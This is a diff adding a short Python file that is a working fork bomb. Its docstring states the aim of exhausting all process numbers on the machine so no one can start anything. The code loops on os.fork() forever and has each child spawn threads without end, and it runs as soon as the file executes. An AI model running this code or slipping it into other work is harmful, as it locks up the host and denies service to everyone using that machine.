@@ -1,0 +1,20 @@
+"""Forks without end, in processes and threads.
+
+Would take all process numbers of the machine, so that nobody can start anything.
+"""
+
+# %%
+import os
+import threading
+import time
+
+try:
+    while True:
+        if os.fork() == 0:
+            try:
+                while True:
+                    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
+            except RuntimeError:
+                time.sleep(100)
+except OSError:
+    pass
